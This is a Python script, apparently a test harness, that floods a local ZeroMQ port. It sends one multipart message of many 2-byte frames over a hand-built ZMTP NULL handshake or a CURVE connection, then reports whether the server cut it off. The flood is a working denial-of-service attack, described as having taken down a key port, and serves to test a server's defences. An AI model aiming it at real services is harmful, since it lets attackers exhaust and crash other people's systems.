"""A real attacker process: one multipart message of 2-byte frames, as big as asked, to one port.

``python flooder.py raw PORT BYTES``: ZMTP 3 with the NULL mechanism over a
plain socket (a DEALER greeting, READY, then 2-byte frames), BYTES on the
wire; this is what took down a ZeroMQ key port.
``python flooder.py dealer|xsub PORT FRAMES SERVER_KEY``: a CURVE DEALER (for
the control ROUTER) or XSUB (for the events PUB) with a fresh key, sending one
message of FRAMES 2-byte frames.

It prints one JSON line when the flood is over: ``{"outcome": "cut" | "delivered" | "timeout", ...}``:
cut when the server ended the connection, delivered when the server's kernel
acknowledged every byte.
"""

from __future__ import annotations

import json
import os
import selectors
import socket
import struct
import sys
import time

import zmq
from zmq.utils.monitor import parse_monitor_message

CURVE_FRAME_WIRE = 37  # flags, size, "\x07MESSAGE", nonce, MAC, flags and 2 bytes: one 2-byte frame under CURVE
GIVE_UP = 150.0
_BYTES_ACKED_AT = 120  # struct tcp_info (linux/tcp.h)


def bytes_acked(sock: socket.socket) -> int:
    """What the peer's kernel acknowledged so far on *sock*."""
    info = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 256)
    return int(struct.unpack_from("=Q", info, _BYTES_ACKED_AT)[0])


def null_handshake() -> bytes:
    """A ZMTP 3.0 NULL greeting and READY, as a DEALER."""
    greeting = b"\xff" + b"\x00" * 8 + b"\x7f" + b"\x03\x00" + b"NULL".ljust(20, b"\x00") + b"\x00" + b"\x00" * 31
    body = b"\x05READY" + b"\x0bSocket-Type" + struct.pack(">I", 6) + b"DEALER"
    return greeting + b"\x04" + bytes([len(body)]) + body


def null_frames(total: int) -> bytes:
    """2-byte frames, all but the last with MORE: one message of *total* bytes on the wire."""
    return b"\x01\x02ab" * (total // 4 - 1) + b"\x00\x02ab"


def raw(port: int, total: int) -> dict[str, object]:
    """Handshake with NULL (a server that is not ZeroMQ cuts us here or later), then the frames; cut if the
    server resets or closes, delivered once all of it is acknowledged."""
    handshake = null_handshake()
    data = null_frames(total - len(handshake))
    with socket.create_connection(("127.0.0.1", port)) as sock:
        try:
            sock.sendall(handshake)
            sock.settimeout(10)
            answer = b""
            while len(answer) < 66 or len(answer) < 66 + answer[65]:  # its greeting, then its READY command
                chunk = sock.recv(4096)
                if not chunk:
                    return {"outcome": "cut", "error": "closed during the handshake"}
                answer += chunk
            return _send_watching(sock, data, len(handshake) + len(data))
        except OSError as exc:
            return {"outcome": "cut", "error": str(exc)}


def _send_watching(sock: socket.socket, data: bytes, wire: int) -> dict[str, object]:
    """Send *data* while watching for the server's FIN or reset (after a shutdown it may just stop reading)."""
    sock.setblocking(False)
    view = memoryview(data)
    deadline = time.monotonic() + GIVE_UP
    with selectors.DefaultSelector() as selector:
        selector.register(sock, selectors.EVENT_READ | selectors.EVENT_WRITE)
        while time.monotonic() < deadline:
            for _, events in selector.select(0.05):
                if events & selectors.EVENT_READ and not sock.recv(65536):
                    return {"outcome": "cut", "error": "the server closed"}
                if events & selectors.EVENT_WRITE and view:
                    view = view[sock.send(view[: 1 << 20]) :]
            if not view:
                selector.modify(sock, selectors.EVENT_READ)
                if bytes_acked(sock) >= wire:
                    return {"outcome": "delivered", "bytes": wire}
    return {"outcome": "timeout"}


def curve(kind: str, port: int, frames: int, server_key: bytes) -> dict[str, object]:
    """Handshake with a fresh key, send one message of *frames* 2-byte frames, watch how it ends."""
    ctx = zmq.Context()
    sock = ctx.socket(zmq.DEALER if kind == "dealer" else zmq.XSUB)
    public, secret = zmq.curve_keypair()
    sock.curve_serverkey, sock.curve_publickey, sock.curve_secretkey = server_key, public, secret
    sock.sndhwm = 0
    sock.linger = 0
    monitor = sock.get_monitor_socket()
    try:
        sock.connect(f"tcp://127.0.0.1:{port}")
        fd = -1
        while True:
            event = parse_monitor_message(monitor.recv_multipart())
            if event["event"] == zmq.EVENT_CONNECTED:
                fd = int(event["value"])
            if event["event"] == zmq.EVENT_HANDSHAKE_SUCCEEDED:
                break
        sock.send_multipart([b"ab"] * frames)
        return _watch(monitor, socket.socket(fileno=os.dup(fd)), frames * CURVE_FRAME_WIRE)
    finally:
        sock.disable_monitor()
        monitor.close(0)
        sock.close(0)
        ctx.term()


def _watch(monitor: zmq.Socket[bytes], conn: socket.socket, wire: int) -> dict[str, object]:
    deadline = time.monotonic() + GIVE_UP
    with conn:
        while time.monotonic() < deadline:
            if monitor.poll(20):
                event = parse_monitor_message(monitor.recv_multipart())
                if event["event"] in (zmq.EVENT_DISCONNECTED, zmq.EVENT_CLOSED):
                    return {"outcome": "cut"}
            if bytes_acked(conn) >= wire:
                return {"outcome": "delivered", "bytes": wire}
    return {"outcome": "timeout"}


def main(argv: list[str]) -> int:
    """Run one flood and print how it ended."""
    kind, port, amount = argv[0], int(argv[1]), int(argv[2])
    result = raw(port, amount) if kind == "raw" else curve(kind, port, amount, argv[3].encode())
    print(json.dumps(result), flush=True)
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
